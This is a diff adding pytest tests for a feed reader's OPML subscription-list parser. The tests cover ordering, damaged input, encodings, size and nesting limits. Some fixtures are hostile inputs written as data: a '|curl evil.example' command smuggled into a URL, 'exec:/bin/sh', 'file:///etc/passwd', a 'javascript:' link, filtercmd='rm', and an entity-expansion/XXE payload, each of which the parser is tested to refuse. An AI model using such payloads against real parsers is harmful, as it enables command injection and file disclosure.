@@ -1,0 +1,112 @@
+"""Lists of subscriptions: nothing lost, nothing run, faults told."""
+
+import pytest
+
+from reader.domain.errors import OutlineError
+from reader.domain.outline import Outline, OutlineFeed, OutlineFolder, to_opml
+from reader.hostile.opml import parse
+
+
+def body(outlines: str, head: str = "<head><title>Mine</title></head>") -> bytes:
+    return f'<?xml version="1.0"?><opml version="2.0">{head}<body>{outlines}</body></opml>'.encode()
+
+
+def test_folders_feeds_and_unknown_attributes_keep_their_order():
+    outline = parse(
+        body(
+            '<outline text="A &amp; B" isOpen="true"><outline type="rss" title="One" text="one" xmlUrl="https://e.example/1"'
+            ' htmlUrl="https://e.example/" category="/x" description="d"/><outline text="Inner"/></outline>'
+            '<outline XMLURL="http://e.example/2"/>'
+        )
+    )
+    one = OutlineFeed(
+        url="https://e.example/1",
+        title="One",
+        site_url="https://e.example/",
+        attributes=(("category", "/x"), ("description", "d")),
+    )
+    folder = OutlineFolder(
+        title="A & B", attributes=(("isOpen", "true"),), children=(one, OutlineFolder(title="Inner"))
+    )
+    two = OutlineFeed(url="http://e.example/2", title="http://e.example/2")
+    assert outline == Outline(title="Mine", children=(folder, two))
+    assert parse(to_opml(outline).encode()) == outline
+
+
+def test_commands_files_and_scripts_are_never_taken():
+    outline = parse(
+        body(
+            '<outline xmlUrl="|curl evil.example"/><outline xmlUrl="exec:/bin/sh"/><outline xmlUrl="file:///etc/passwd"/>'
+            '<outline xmlUrl="https://u:p@e.example/"/><outline xmlUrl="feed://e.example/1"/>'
+            '<outline xmlUrl="http://e.example/2" htmlUrl="javascript:x" filtercmd="rm"/>'
+        )
+    )
+    assert [child.url for child in outline.children] == ["http://e.example/1", "http://e.example/2"]
+    assert len(outline.skipped) == 4
+    assert outline.children[1].site_url is None
+    assert not outline.damaged
+
+
+@pytest.mark.parametrize(
+    ("broken", "urls"),
+    [
+        ('<outline text="R&D" xmlUrl="http://e.example/?a=1&b=2"/>', ["http://e.example/?a=1&b=2"]),
+        ('<outline text="nul \0 bell \7" xmlUrl="http://e.example/1"/>', ["http://e.example/1"]),
+        (
+            '<outline text="x" description="says "hello" to <a href="http://y.example/">you</a>" xmlUrl="http://e.example/1"/>'
+            '<outline text="y" xmlUrl="http://e.example/2"/>',
+            ["http://e.example/1", "http://e.example/2"],
+        ),
+        ('<outline text="a" text="b" xmlUrl="http://e.example/1"/>', ["http://e.example/1"]),
+        ('<outline text="folder"><outline xmlUrl="http://e.example/1"/>', ["http://e.example/1"]),
+        ('<outline xmlUrl="http://e.example/1"/><outline xmlUrl="http://e.exam', ["http://e.example/1"]),
+    ],
+)
+def test_damaged_lists_are_read_as_far_as_they_go_and_say_so(broken, urls):
+    cut = broken.endswith("exam")
+    whole = body(broken) if not cut else body(broken)[: body(broken).index(b"exam", 120) + 4]
+    outline = parse(whole)
+    assert outline.damaged
+    found = []
+    for child in outline.children:
+        found.extend([child] if isinstance(child, OutlineFeed) else child.children)
+    assert [feed.url for feed in found][: len(urls)] == urls
+
+
+@pytest.mark.parametrize(
+    "given",
+    [
+        b"",
+        b"not a list",
+        b"<html><p>x</p></html>",
+        b'{"opml": 1}',
+        b"<opml" + b" " * 21_000_000,
+        b"<opml><body>" + b"<outline text='x'>" * 5_000 + b"<outline xmlUrl='http://e.example/'/>",
+    ],
+)
+def test_what_is_no_list_is_refused(given):
+    with pytest.raises(OutlineError):
+        parse(given)
+
+
+def test_entities_are_refused():
+    laughs = '<!DOCTYPE opml [<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY c SYSTEM "file:///etc/hostname">]>'
+    outline = parse(
+        f'{laughs}<opml><body><outline text="x &b; &c;" xmlUrl="http://e.example/"/></body></opml>'.encode()
+    )
+    assert [feed.title for feed in outline.children] == ["x &b; &c;"]
+    assert outline.damaged
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "iso-8859-1", "windows-1256"])
+def test_encodings(encoding):
+    title = "أخبار" if encoding != "iso-8859-1" else "Été"
+    text = f'<?xml version="1.0" encoding="{encoding}"?><opml><body><outline text="{title}" xmlUrl="http://e.example/"/></body></opml>'
+    assert parse(text.encode(encoding)).children[0].title == title
+
+
+def test_folders_nested_without_end_are_flattened():
+    deep = "<outline text='x'>" * 150 + "<outline xmlUrl='http://e.example/'/>" + "</outline>" * 150
+    outline = parse(body(deep))
+    written = to_opml(outline)
+    assert "http://e.example/" in written and written.count("<outline") == 65
